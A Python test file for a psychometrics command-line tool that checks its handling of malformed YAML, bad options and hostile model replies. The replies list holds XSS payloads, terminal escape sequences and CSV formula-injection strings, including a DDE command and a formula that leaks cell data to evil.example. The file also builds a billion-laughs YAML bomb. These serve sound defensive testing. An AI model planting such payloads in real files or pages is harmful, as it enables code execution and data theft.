"""Hostile and malformed input: persona files, design files and command-line options.

Every file in ``tests/data/hostile/personas/`` and ``tests/data/hostile/designs/`` starts with
``# expect: TEXT``, the part of the error that identifies its problem. Through the command line each
case must exit with code 2 and print exactly one line on stderr, ``psytest: error: ...``, naming the
file (or option) at fault, with no traceback. YAML bombs, self-referencing aliases, Python tags, deep
nesting, non-UTF-8 bytes and oversized files are among them.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from psychometrics.cli import main
from psychometrics.errors import PsytestError, printable
from psychometrics.personas import load_persona_set
from psychometrics.yaml_io import MAX_BYTES, MAX_VALUES, expanded_size, parse_yaml

HOSTILE = Path(__file__).parent / "data" / "hostile"
PERSONA_FILES = sorted((HOSTILE / "personas").glob("*.yaml"))
DESIGN_FILES = sorted((HOSTILE / "designs").glob("*.yaml"))
PWNED = Path("/tmp/psytest-pwned")


def expected(path: Path) -> str:
    first = path.read_bytes().split(b"\n", 1)[0].decode("utf-8")
    assert first.startswith("# expect: "), path
    return first.removeprefix("# expect: ")


def cli(capsys, *args: str) -> tuple[int, str, str]:
    """Run the CLI in this process: (exit code, stdout, stderr)."""
    with pytest.raises(SystemExit) as exited:
        main(list(args))
    out, err = capsys.readouterr()
    return exited.value.code, out, err


def assert_one_line_error(code: int, err: str, *needles: str) -> str:
    assert code == 2, err
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("psytest: error: ") and "Traceback" not in err
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


# -- the corpora ------------------------------------------------------------------------------------


def test_corpora_are_large_and_every_case_is_distinct():
    for files in (PERSONA_FILES, DESIGN_FILES):
        assert len(files) >= 25
        messages = [expected(p) for p in files]
        assert len(set(messages)) == len(messages)


@pytest.mark.parametrize("path", PERSONA_FILES, ids=lambda p: p.stem)
def test_malformed_persona_file_is_one_line_naming_the_file(path, capsys):
    with pytest.raises(PsytestError) as caught:
        load_persona_set(path)
    assert str(caught.value).startswith(str(path)) and expected(path) in str(caught.value)
    code, _, err = cli(capsys, "personas", "show", str(path))
    assert_one_line_error(code, err, str(path), expected(path))
    code, _, err = cli(capsys, "administer", "--model", "sim", "--personas", str(path), "--dry-run")
    assert_one_line_error(code, err, str(path), expected(path))


@pytest.mark.parametrize("path", DESIGN_FILES, ids=lambda p: p.stem)
def test_malformed_design_file_is_one_line_before_anything_is_planned(path, capsys, tmp_path):
    out = tmp_path / "run"
    code, _, err = cli(capsys, "administer", "--model", "sim", "-i", "mini-ipip", "--design", str(path),
                       "--out", str(out))
    line = assert_one_line_error(code, err, expected(path))
    # the file is named, except where the problem is the whole design (its size) or a file it names
    assert str(path) in line or line.startswith(("psytest: error: design: ", "psytest: error: --personas "))
    assert not out.exists()  # refused before the run directory was made


def test_python_tags_run_nothing():
    PWNED.unlink(missing_ok=True)
    for path in [*PERSONA_FILES, *DESIGN_FILES]:
        if "python" in path.name:
            with pytest.raises(PsytestError, match="could not determine a constructor"):
                parse_yaml(path.read_text(encoding="utf-8"), str(path))
    assert not PWNED.exists()


# -- YAML bounds ------------------------------------------------------------------------------------


def test_alias_expansion_is_measured_without_expanding():
    laughs = "a: &a [" + ", ".join(["x"] * 10) + "]\n"
    for level in "bcdefghi":
        previous = chr(ord(level) - 1)
        laughs += f"{level}: &{level} [" + ", ".join([f"*{previous}"] * 10) + "]\n"
    with pytest.raises(PsytestError, match="expand to more than 1,000,000 values"):
        parse_yaml(laughs, "bomb.yaml")  # 10**9 values if expanded; refused at once
    shared = parse_yaml("a: &a [1, 2, 3]\nb: [*a, *a]\n", "ok.yaml")  # ordinary anchors still work
    assert shared == {"a": [1, 2, 3], "b": [[1, 2, 3], [1, 2, 3]]}
    # the mapping, its 2 keys, list a (1 + 3 values), list b (1 + a counted twice): shared parts count each use
    assert expanded_size(shared) == 1 + 2 + 4 + (1 + 2 * 4)
    assert expanded_size(list(range(MAX_VALUES + 10))) > MAX_VALUES


def test_oversized_and_endless_files_are_refused_without_reading_them_whole(tmp_path, capsys):
    big = tmp_path / "big-personas.yaml"
    big.write_text("id: big\nname: Big\npersonas:\n" + "  - {id: p, text: " + "x" * MAX_BYTES + "}\n")
    code, _, err = cli(capsys, "personas", "show", str(big))
    assert_one_line_error(code, err, str(big), f"larger than the {MAX_BYTES:,} bytes")
    # /dev/zero never ends: reading it whole would never return (the subprocess timeout is the guard)
    result = subprocess.run([sys.executable, "-m", "psychometrics", "administer", "--model", "sim", "--design",
                             "/dev/zero", "--dry-run"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 2 and result.stderr.strip() == (
        f"psytest: error: /dev/zero: larger than the {MAX_BYTES:,} bytes a YAML file may have; split it or trim it")


def test_absurd_design_is_refused_before_planning_even_in_a_dry_run(capsys):
    code, out, err = cli(capsys, "administer", "--model", "sim", "-i", "ipip-neo-300", "--samples", "10000",
                         "--option-orders", "rotations,latin-square", "--templates", "numbered,lettered,worded",
                         "--personas", "neutral-biographies", "--mode", "both", "--dry-run")
    line = assert_one_line_error(code, err, "requests planned, more than the 2,000,000 one run holds")
    count = int(line.split("design: ")[1].split(" requests")[0].replace(",", ""))
    assert count == 300 * 10_000 * (5 + 10) * 3 * 40 * 2  # items x samples x orders x templates x personas x modes
    assert out == ""


# -- command-line options ---------------------------------------------------------------------------

DRY = ("--dry-run",)
OPTION_CASES = [
    (("administer", "--model", "", *DRY), "--model : unknown model kind"),
    (("administer", "--model", "bogus", *DRY), "--model bogus: unknown model kind"),
    (("administer", "--model", "sim/e=abc", *DRY), "--model sim/e=abc: e must be a number"),
    (("administer", "--model", "sim/e", *DRY), "expected key=value pairs"),
    (("administer", "--model", "sim/e=99", *DRY), "must be between -6 and 6"),
    (("administer", "--model", "gguf:/no/such/model.gguf", *DRY), "no such GGUF file"),
    (("administer", "--model", "local/nope", *DRY), "--model local/nope: unknown embedded model"),
    (("administer", "--model", "openai/x y", *DRY), "--model openai/x y: unknown model kind"),
    (("administer", "--model", "router:/no/such/cluster.yaml", *DRY), "/no/such/cluster.yaml: no such file"),
    (("administer", "--model", "openai/m", "--api-base", "not a url", *DRY), "--api-base not a url: give the server's"),
    (("administer", "--model", "anthropic/m", "--api-base", "ftp://host/v1", *DRY), "--api-base ftp://host/v1"),
    (("administer", "--model", "openai/m", "--api-base", "http://h:99999/v1", *DRY), "--api-base"),
    (("administer", "--model", "sim", "--api-base", "http://127.0.0.1:8000/v1", *DRY), "--model sim does not use it"),
    (("administer", "--model", "sim", "--concurrency", "0", *DRY), "'--concurrency'"),
    (("administer", "--model", "sim", "--concurrency", "many", *DRY), "'--concurrency'"),
    (("administer", "--model", "sim", "--concurrency", "100000", *DRY), "'--concurrency'"),
    (("administer", "--model", "sim", "--timeout", "0", *DRY), "'--timeout'"),
    (("administer", "--model", "sim", "--timeout", "nan", *DRY), "'--timeout'"),
    (("administer", "--model", "sim", "--max-retries", "-1", *DRY), "'--max-retries'"),
    (("administer", "--model", "sim", "--samples", "0", *DRY), "samples: Input should be greater than or equal to 1"),
    (("administer", "--model", "sim", "--temperature", "nan", *DRY), "temperature"),
    (("administer", "--model", "sim", "--seed", "-1", *DRY), "seed"),
    (("administer", "--model", "sim", "--mode", "all", *DRY), "modes.0: Input should be 'text' or 'probs'"),
    (("administer", "--model", "sim", "--option-orders", "random:0", *DRY), "unknown option order 'random:0'"),
    (("administer", "--model", "sim", "--templates", "numbered,chatty", *DRY), "unknown template 'chatty'"),
    (("administer", "--model", "sim", "--inventory", "no/such/inventory.yaml", *DRY), "no/such/inventory.yaml"),
    (("administer", "--model", "sim", "-i", "mini-ipip", "-i", "mini-ipip", *DRY), "the same inventory is given twice"),
    (("administer", "--model", "sim", "--design", "no/such/design.yaml", *DRY), "no/such/design.yaml: no such file"),
    (("administer", "--model", "sim", "--personas", "no/such/personas.yaml", *DRY), "no/such/personas.yaml: no such file"),
    (("administer", "--model", "sim", "--personas", "villains", *DRY), "--personas villains: unknown persona set"),
    (("administer", "--model", "sim", "--persona-ids", "calm", *DRY), "persona_ids needs personas"),
    (("administer", "--model", "sim", "--personas", "trait-shaping", "--persona-ids", "nobody", *DRY),
     "--persona-ids: nobody not in persona set"),
    (("administer", "--model", "sim", "--items-per-request", "3", "--mode", "probs", *DRY),
     "probability mode scores one item per request"),
    (("administer", "--model", "sim", "--item-orders", "2", *DRY), "item_orders only matters"),
    (("administer", "--model", "sim", "--invalid", "reask:100", *DRY), "invalid: must be missing, drop or reask:N"),
    (("administer", "--model", "sim", "--frobnicate", *DRY), "No such option: --frobnicate"),
    (("score", "no/such/run"), "no/such/run: not a psytest run directory"),
    (("report", "no/such/run"), "no/such/run: not a psytest run directory"),
    (("compare", "no/such/run"), "compare needs at least two run directories"),
    (("reproduce", "no/such/run"), "no/such/run: no such run directory"),
    (("check", "no/such/run", "--baseline", "no/such/baseline.json"), "--baseline no/such/baseline.json: no such file"),
    (("analyze", "data.csv"), "give exactly one of --keys KEYS.yaml or --inventory NAME"),
    (("analyze", "data.csv", "--keys", "k.yaml", "--inventory", "bfi-44"), "give exactly one of --keys"),
]


@pytest.mark.parametrize("args, needle", OPTION_CASES, ids=lambda v: " ".join(v) if isinstance(v, tuple) else None)
def test_bad_option_is_one_line_exit_2(args, needle, capsys):
    code, _, err = cli(capsys, *args)
    assert_one_line_error(code, err, needle)


def test_unwritable_out_is_one_line(tmp_path, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory\n")
    code, _, err = cli(capsys, "administer", "--model", "sim", "--out", str(blocker / "run"))
    assert_one_line_error(code, err, str(blocker / "run"), "Not a directory")
    code, _, err = cli(capsys, "administer", "--model", "sim", "--out", str(blocker))
    assert_one_line_error(code, err, str(blocker))


def test_unwritable_score_and_report_out_are_one_line(tmp_path, capsys):
    run = tmp_path / "run"
    code, _, err = cli(capsys, "administer", "--model", "sim/e=1,seed=2", "--out", str(run), "--json")
    assert code == 0, err
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    for command in ("score", "report"):
        code, _, err = cli(capsys, command, str(run), "--out", str(blocker / "tables"))
        assert_one_line_error(code, err, str(blocker / "tables"), "Not a directory")
    code, _, err = cli(capsys, "compare", str(run), str(run), "--out", str(blocker / "cmp"))
    assert_one_line_error(code, err, str(blocker / "cmp"))


def test_control_characters_in_an_option_are_shown_escaped(capsys):
    code, _, err = cli(capsys, "administer", "--model", "bogus\x1b[31m\u202e", "--dry-run")
    line = assert_one_line_error(code, err, "--model bogus\\x1b[31m\\u202e: unknown model kind")
    assert "\x1b" not in line and "\u202e" not in line
    assert printable("tab\tand\x07bell") == "tab\tand\\x07bell"


def test_real_process_has_no_traceback_for_a_yaml_bomb():
    path = HOSTILE / "personas" / "15-billion-laughs.yaml"
    result = subprocess.run([sys.executable, "-m", "psychometrics", "administer", "--model", "sim", "--personas",
                             str(path), "--dry-run"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr == f"psytest: error: {path}: its aliases expand to more than 1,000,000 values; " \
                            "write the values out instead of nesting aliases\n"


# -- model replies with markup are inert in every output --------------------------------------------

CHROMIUM = Path("/usr/bin/chromium")
HOSTILE_REPLIES = (
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<a href=\"javascript:document.title='pwned'\">3</a>",
    "[bold red]3[/bold red] [link=https://evil.example]x[/link] [/nothing]",
    "\x1b[31m4\x1b[0m\x1b]0;pwned-title\x07",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"5\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
)
# A directory name that is rich markup (an unmatched closing tag makes rich raise) and HTML
MARKUP_DIR = ("[bold]", "[/bold][/red]<img src=x onerror=alert(1)>")


class HostileReplies:
    """A backend whose replies cycle through HOSTILE_REPLIES, each used equally often."""

    def __new__(cls):
        from psychometrics.models.base import ModelBackend, ModelReply

        class _Backend(ModelBackend):
            name = "hostile/replies"

            def __init__(self):
                self.count = 0

            async def complete(self, request):
                self.count += 1
                return ModelReply(text=HOSTILE_REPLIES[self.count % len(HOSTILE_REPLIES)], input_tokens=1,
                                  output_tokens=1)

        return _Backend()


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory):
    """Two runs through the command line against a loopback server that sends HOSTILE_REPLIES."""
    from psychometrics.testing.openai_server import start_server

    root = tmp_path_factory.mktemp("markup")
    runs = [root.joinpath(*MARKUP_DIR, f"run{i}") for i in (1, 2)]
    outputs = []
    with start_server(HostileReplies()) as server:
        for seed, run in enumerate(runs):
            result = subprocess.run(
                [sys.executable, "-m", "psychometrics", "administer", "--model", "openai/hostile", "--api-base",
                 server.base_url, "-i", "mini-ipip", "--samples", "2", "--temperature", "1", "--seed", str(seed),
                 "--out", str(run)],
                capture_output=True, timeout=600, env={**__import__("os").environ, "FORCE_COLOR": "1",
                                                       "OPENAI_API_KEY": "none"})
            assert result.returncode == 0, result.stderr.decode()
            outputs.append(result)
    for command in (["score", str(runs[0])], ["report", str(runs[0])],
                    ["compare", str(runs[0]), str(runs[1]), "--out", str(root / "compare")]):
        result = subprocess.run([sys.executable, "-m", "psychometrics", *command], capture_output=True,
                                timeout=600, env={**__import__("os").environ, "FORCE_COLOR": "1"})
        assert result.returncode == 0, result.stderr.decode()
        outputs.append(result)
    return root, runs, outputs


def test_terminal_output_never_renders_reply_markup_or_escapes(hostile_runs):
    _, runs, outputs = hostile_runs
    text = b"".join(r.stdout + r.stderr for r in outputs)
    for reply in HOSTILE_REPLIES:
        assert reply.encode() not in text
    assert b"\x1b]0;" not in text and b"pwned" not in text and b"evil.example" not in text
    # the directory name, which is rich markup, is printed as it is (rich would raise on "[/red]")
    plain = text.decode("utf-8", "replace")
    assert "[bold]/[/bold][/red]<img src=x onerror=alert(1)>/run1" in plain


def test_every_reply_is_stored_exactly(hostile_runs):
    import sqlite3

    _, runs, _ = hostile_runs
    with sqlite3.connect(runs[0] / "responses.sqlite") as db:
        stored = [row[0] for row in db.execute("SELECT raw_reply FROM responses")]
    assert len(stored) == 40 and set(stored) == set(HOSTILE_REPLIES)


def test_csvs_neutralise_formulas_and_escapes_but_keep_numbers(hostile_runs):
    import pandas as pd

    _, runs, _ = hostile_runs
    report = runs[0] / "report"
    responses = pd.read_csv(report / "responses.csv", keep_default_na=False)
    shown = set(responses["raw_reply"])
    assert "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"5\")" in shown
    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'\t=1+1"} <= shown
    assert "\\x1b[31m4\\x1b[0m\\x1b]0;pwned-title\\x07" in shown
    assert HOSTILE_REPLIES[0] in shown  # HTML is harmless in a CSV and kept as it is
    for path in [*report.glob("*.csv"), *(runs[0] / "analysis").glob("*.csv")]:
        raw = path.read_bytes()
        assert b"\x1b" not in raw and b"\x07" not in raw, path
        frame = pd.read_csv(path, keep_default_na=False, dtype=str)
        for column in frame.columns:
            bad = [v for v in frame[column] if v[:1] in ("=", "+", "@", "\t", "\r") or
                   (v.startswith("-") and not _is_number(v))]
            assert not bad, (path.name, column, bad[:3])
    assert pd.api.types.is_numeric_dtype(pd.read_csv(report / "responses.csv")["value"])
    assert pd.api.types.is_numeric_dtype(pd.read_csv(report / "score_summary.csv")["mean"])


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_report_html_shows_replies_only_as_text(hostile_runs):
    import re

    _, runs, _ = hostile_runs
    html = (runs[0] / "report" / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"<script|<[^>]*\son\w+\s*=|<[^>]*javascript:", html, re.I)
    assert all(re.fullmatch(r'<a href="#\w+">', tag) for tag in re.findall(r"<a\b[^>]*>", html))  # the page's own
    assert "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;" in html
    assert "&lt;a href=&#34;javascript:document.title=&#39;pwned&#39;&#34;&gt;3&lt;/a&gt;" in html
    assert "[bold red]3[/bold red]" in html


def test_compare_outputs_escape_hostile_run_names(hostile_runs):
    import re

    root, _, _ = hostile_runs
    page = (root / "compare" / "compare.html").read_text(encoding="utf-8")
    assert not re.search(r"<img|<script|<[^>]*\son\w+\s*=", page, re.I)
    assert "[/bold][/red]&lt;img src=x onerror=alert(1)&gt;" in page
    assert (root / "compare" / "differences.csv").is_file()


def test_chromium_runs_nothing_from_the_report_or_the_comparison(hostile_runs, tmp_path):
    if not CHROMIUM.exists():
        pytest.skip("needs /usr/bin/chromium (Debian's chromium package)")
    import re

    root, runs, _ = hostile_runs
    for page, title in ((runs[0] / "report" / "report.html", "psytest report: openai/hostile"),
                        (root / "compare" / "compare.html", "psytest comparison")):
        dom = subprocess.run(
            [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--disable-background-networking", f"--user-data-dir={tmp_path / page.stem}", "--dump-dom",
             page.resolve().as_uri()], capture_output=True, text=True, timeout=90, check=True).stdout
        assert re.search(r"<title>(.*?)</title>", dom, re.S).group(1) == title
        assert "<script" not in dom and "<img src=\"x\"" not in dom and "pwned" not in title


def test_merge_keys_may_be_overridden_but_written_keys_may_not_repeat():
    assert parse_yaml("a: &d {x: 1, y: 2}\nb: {<<: *d, x: 3}\n", "ok.yaml") == {
        "a": {"x": 1, "y": 2}, "b": {"x": 3, "y": 2}}
    with pytest.raises(PsytestError, match="duplicate key 'x'"):
        parse_yaml("b: {<<: {y: 1}, x: 1, x: 3}\n", "bad.yaml")
